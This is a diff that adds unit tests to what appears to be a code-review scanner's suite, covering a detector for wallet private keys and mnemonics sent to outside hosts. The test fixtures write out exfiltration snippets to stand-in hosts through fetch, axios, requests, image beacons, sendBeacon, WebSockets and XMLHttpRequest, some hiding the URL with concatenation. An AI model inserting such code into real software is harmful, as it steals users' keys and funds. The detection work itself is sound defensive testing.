@@ -3786,6 +3786,48 @@ describe('secret-harvesting: a private key handed to a request, in Go and Rust',
   });
 });
 
+describe('secret-harvesting: a private key in a request written over several lines, to a URL kept in a name, a beacon or a socket', () => {
+  const sent = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })], 'perf: key handling').find((f) => f.id === 'secret-harvesting');
+  const keypair = (body: string[]) => ["import { Keypair } from '@solana/web3.js';", 'export async function load(secretKey: Uint8Array) {', '  const kp = Keypair.fromSecretKey(secretKey);', ...body, '  return kp;', '}'];
+  it('reads the body three lines below fetch(, axios.post( or requests.post(', () => {
+    expect(sent('src/keypair.ts', keypair(["  await fetch('https://sol-rpc-metrics.example/v1', {", "    method: 'POST',", "    body: JSON.stringify({ key: Buffer.from(secretKey).toString('hex') }),", '  });']))).toMatchObject({ severity: 'high', line: 16 });
+    expect(sent('src/wallet.js', ["const bip39 = require('bip39');", 'async function restore(mnemonic) {', '  await axios.post(', "    'https://wallet-sync.example/api',", '    { m: mnemonic },', '  );', '}'])?.line).toBe(15);
+    expect(sent('pkg/wallet.py', ['from eth_account import Account', 'def load(private_key):', '    acct = Account.from_key(private_key)', '    requests.post(', "        'https://eth-metrics.example/c',", "        json={'k': private_key},", '    )', '    return acct'])?.line).toBe(16);
+    expect(sent('src/keypair.ts', keypair(['  await got.post({', "    url: 'https://sol-rpc-metrics.example/v1',", '    json: { secretKey: Array.from(secretKey) },', '  });']))?.line).toBe(16);
+  });
+  it('follows the URL into a name of the file, built by concatenation or a template', () => {
+    const wallet = (url: string[], call: string) => ['import { Wallet } from "ethers";', ...url, 'export function importWallet(privateKey: string) {', '  const wallet = new ethers.Wallet(privateKey);', call, '  return wallet;', '}'];
+    expect(sent('src/wallet.ts', wallet(["const SINK = 'https://metrics-cdn.example/collect';"], "  fetch(SINK, { method: 'POST', body: privateKey });"))?.detail).toContain('to metrics-cdn.example');
+    expect(sent('src/wallet.ts', wallet(["const HOST = 'metrics-' + 'cdn.example';", "const BASE = 'https://' + HOST;"], "  fetch(`${BASE}/collect`, { method: 'POST', body: privateKey });"))?.detail).toContain('to metrics-cdn.example');
+  });
+  it('reads an image beacon, sendBeacon, location and a socket or XMLHttpRequest opened to a URL', () => {
+    const wallet = (body: string[]) => ['export function importWallet(privateKey: string) {', '  const wallet = new ethers.Wallet(privateKey);', ...body, '  return wallet;', '}'];
+    expect(sent('src/wallet.ts', wallet(["  new Image().src = 'https://px.example.dev/p?k=' + encodeURIComponent(privateKey);"]))?.line).toBe(13);
+    expect(sent('src/wallet.ts', wallet(["  const img = document.createElement('img');", "  img.src = 'https://px.example.dev/p?k=' + privateKey;"]))?.line).toBe(14);
+    expect(sent('src/wallet.ts', ["const COLLECT = 'https://px.example.dev/p';", ...wallet(['  navigator.sendBeacon(COLLECT, privateKey);'])])?.line).toBe(14);
+    expect(sent('src/wallet.ts', wallet(["  window.location.href = 'https://px.example.dev/p?k=' + privateKey;"]))?.line).toBe(13);
+    expect(sent('src/wallet.ts', wallet(["  const ws = new WebSocket('wss://xrpl-status.example/s');", '  ws.onopen = () => ws.send(JSON.stringify({ privateKey }));']))?.detail).toContain('to xrpl-status.example');
+    expect(sent('src/wallet.ts', wallet(['  const xhr = new XMLHttpRequest();', "  xhr.open('POST', 'https://px.example.dev/p');", '  xhr.send(privateKey);']))?.line).toBe(15);
+    expect(sent('pkg/wallet.py', ['from eth_account import Account', 'def load(private_key):', '    acct = Account.from_key(private_key)', "    ws = websocket.create_connection('wss://eth-status.example/s')", '    ws.send(private_key)'])?.line).toBe(15);
+  });
+  it('a function the change defines that sends over several lines is a sender', () => {
+    expect(sent('src/keypair.ts', keypair(['  report(secretKey);', '}', 'function report(k: Uint8Array) {', '  return fetch(', "    'https://sol-rpc-metrics.example/v1',", "    { method: 'POST', body: k },", '  );']))?.title).toBe('A private key is handed to report(), which sends it to a host');
+  });
+  it('is quiet on a signed transaction, a public key, a chat message, a route handler, a callback, a bearer header, or a key after the request', () => {
+    expect(sent('src/transfer.ts', ["const RPC = 'https://rpc.chain.example';", 'export async function send(privateKey: string, tx: Tx) {', '  const wallet = new Wallet(privateKey);', '  const signed = await wallet.signTransaction(tx);', '  return fetch(RPC, {', "    method: 'POST',", "    body: JSON.stringify({ method: 'eth_sendRawTransaction', params: [signed] }),", '  });', '}'])).toBeUndefined();
+    expect(sent('src/register.ts', ["const API = 'https://faucet.example.dev/api';", 'export async function register(keypair: Keypair) {', '  await fetch(`${API}/register`, {', "    method: 'POST',", '    body: JSON.stringify({ publicKey: keypair.publicKey.toBase58(), address: addressOf(secretKey) }),', '  });', '}'])).toBeUndefined();
+    expect(sent('src/chat.ts', ['const wallet = useWallet();', "const ws = new WebSocket('wss://chat.example.dev/room');", 'ws.onopen = () => ws.send(JSON.stringify({ from: wallet.address, text: message }));'])).toBeUndefined();
+    expect(sent('src/server.ts', ["import { Wallet } from 'ethers';", "app.post('/import', async (req, res) => {", '  const { mnemonic } = req.body;', '  const wallet = Wallet.fromPhrase(mnemonic);', '  res.json({ address: wallet.address });', '});'])).toBeUndefined();
+    expect(sent('src/node.js', ["const { Keypair } = require('@solana/web3.js');", "request.post({ url: 'https://rpc.example.dev', json: tx }, (err, res) => {", '  if (err) return;', '  const kp = Keypair.fromSecretKey(secretKey);', '});'])).toBeUndefined();
+    expect(sent('src/exchange.ts', ['const wallet = new Wallet(pk);', "await fetch('https://api.exchange.dev/v3/order', {", "  method: 'POST',", '  headers: { Authorization: `Bearer ${this.secretKey}` },', '  body: query,', '});'])).toBeUndefined();
+    expect(sent('src/keys.ts', ['const wallet = Keypair.generate();', "await fetch('https://stats.example.dev/ping', { method: 'POST', body: 'x' });", 'const kp = Keypair.fromSecretKey(secretKey);'])).toBeUndefined();
+    expect(sent('src/keys.ts', ['const wallet = Keypair.generate();', 'await fetch(`${this.baseUrl}/keys`, {', "  method: 'POST',", '  body: JSON.stringify({ secretKey }),', '});'])).toBeUndefined();
+  });
+  it('is quiet in a test that mocks fetch', () => {
+    expect(sent('test/wallet.test.ts', ['const wallet = Keypair.generate();', "fetchMock.post('https://rpc.example.dev', 200);", "await fetch('https://rpc.example.dev', {", "  method: 'POST',", '  body: JSON.stringify({ secretKey: wallet.secretKey }),', '});'])).toBeUndefined();
+  });
+});
+
 describe('false alarms from C++, Python and Go projects (2026-11-28)', () => {
   const claimIn = (path: string, patch: string, title: string): string[] => scan([makeFile(path, { patch })], title).filter((f) => f.id === 'pr-claim-mismatch').map((f) => f.path);
   const code = hunk(['    return write(ctx.out(), value);'], ['    auto out = ctx.out();']);
